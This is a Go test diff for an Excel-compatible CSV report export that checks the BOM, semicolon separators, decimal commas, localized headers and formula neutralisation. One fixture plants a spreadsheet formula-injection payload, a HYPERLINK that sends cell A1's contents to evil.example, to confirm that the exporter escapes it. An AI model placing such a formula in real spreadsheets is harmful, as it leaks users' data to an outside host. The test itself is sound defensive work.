@@ -266,3 +266,105 @@ func TestSafeCell(t *testing.T) {
 		}
 	}
 }
+
+// readExcelCSV checks the BOM and reads the ;-separated rest.
+func readExcelCSV(t *testing.T, b []byte) [][]string {
+	t.Helper()
+	rest, ok := bytes.CutPrefix(b, []byte("\xef\xbb\xbf"))
+	if !ok {
+		t.Fatalf("no UTF-8 byte order mark: %q", b[:min(len(b), 10)])
+	}
+	if bytes.Contains(rest, []byte("\xef\xbb\xbf")) {
+		t.Errorf("a second byte order mark")
+	}
+	r := csv.NewReader(bytes.NewReader(rest))
+	r.Comma = ';'
+	rows, err := r.ReadAll()
+	if err != nil {
+		t.Fatalf("not ;-separated CSV: %v\n%s", err, rest)
+	}
+	return rows
+}
+
+// TestWriteReportCSVExcel: the Excel variant has a BOM, ";" between the
+// cells, a decimal comma in the numbers (and only there), headers and table
+// names in the report's language, and still neutralises formulas.
+func TestWriteReportCSVExcel(t *testing.T) {
+	rep := reportFixture(models.LangNB)
+	rep.Records.Initiatives[0].Title = `=HYPERLINK("http://evil.example/?x="&A1,"Klikk")`
+	rep.Portfolio.Figures.Sectors[1].Name = "-1.5" // text that looks like a number keeps its point
+	t.Run("one table", func(t *testing.T) {
+		var b bytes.Buffer
+		if err := WriteReportCSVWith(&b, rep, "sector_figures", CSVOptions{Excel: true}); err != nil {
+			t.Fatal(err)
+		}
+		want := [][]string{
+			{"Sektor", "Navn", "År", "Netto endring (1000 kr)", "Endringsrom (1000 kr)", "Nettoramme (1000 kr)", "Varig effektivisering (1000 kr)", "Effektiviseringsmål (%)", "Effektiviseringsmål (1000 kr)"},
+			{"OSK", "Oppvekst skole", "2022", "5400", "0", "2250000", "0", "0,7", "15750"},
+			{"OSK", "-1.5", "2023", "-1000,5", "0", "2250000", "40000", "1,4", "31500"},
+		}
+		if got := readExcelCSV(t, b.Bytes()); !slices.EqualFunc(got, want, slices.Equal) {
+			t.Errorf("got\n%q\nwant\n%q", got, want)
+		}
+		if !strings.Contains(b.String(), "Oppvekst skole;2022;5400;") {
+			t.Errorf("not ;-separated: %s", b.String())
+		}
+	})
+	t.Run("all tables", func(t *testing.T) {
+		var b bytes.Buffer
+		if err := WriteReportCSVWith(&b, rep, "", CSVOptions{Excel: true}); err != nil {
+			t.Fatal(err)
+		}
+		rows := readExcelCSV(t, b.Bytes())
+		if rows[0][0] != "Tabell" || !slices.Contains(rows[0], "Tittel") || !slices.Contains(rows[0], "Netto driftsresultat (%)") {
+			t.Errorf("header %q", rows[0])
+		}
+		tables, cells := map[string]bool{}, map[string]bool{}
+		for _, row := range rows[1:] {
+			tables[row[0]] = true
+			for _, c := range row {
+				cells[c] = true
+			}
+		}
+		for _, name := range ReportTableNames {
+			if !tables[TableTitle(name, models.LangNB)] {
+				t.Errorf("no rows of %s", TableTitle(name, models.LangNB))
+			}
+		}
+		for _, c := range []string{`'=HYPERLINK("http://evil.example/?x="&A1,"Klikk")`, "-1000,5", "3,2167", "-120000", "-1.5"} {
+			if !cells[c] {
+				t.Errorf("%q is not in the file", c)
+			}
+		}
+	})
+	t.Run("English", func(t *testing.T) {
+		var b bytes.Buffer
+		if err := WriteReportCSVWith(&b, reportFixture(models.LangEN), "buffer_fund", CSVOptions{Excel: true}); err != nil {
+			t.Fatal(err)
+		}
+		if got := readExcelCSV(t, b.Bytes())[0][0]; got != "Buffer fund at the start of the plan (NOK 1000)" {
+			t.Errorf("header %q", got)
+		}
+	})
+	t.Run("an unknown table writes nothing", func(t *testing.T) {
+		var b bytes.Buffer
+		if err := WriteReportCSVWith(&b, rep, "nope", CSVOptions{Excel: true}); err == nil || b.Len() > 0 {
+			t.Errorf("err %v, %d bytes", err, b.Len())
+		}
+	})
+	t.Run("the default stays for programs", func(t *testing.T) {
+		var a, b bytes.Buffer
+		if err := WriteReportCSV(&a, rep, ""); err != nil {
+			t.Fatal(err)
+		}
+		if err := WriteReportCSVWith(&b, rep, "", CSVOptions{}); err != nil {
+			t.Fatal(err)
+		}
+		if !bytes.Equal(a.Bytes(), b.Bytes()) || bytes.HasPrefix(a.Bytes(), []byte("\xef\xbb\xbf")) {
+			t.Errorf("the default CSV changed")
+		}
+		if !strings.HasPrefix(a.String(), "table,rule_id,severity,sector,year,value,limit,message,reference,") {
+			t.Errorf("default header %q", strings.SplitN(a.String(), "\n", 2)[0])
+		}
+	})
+}
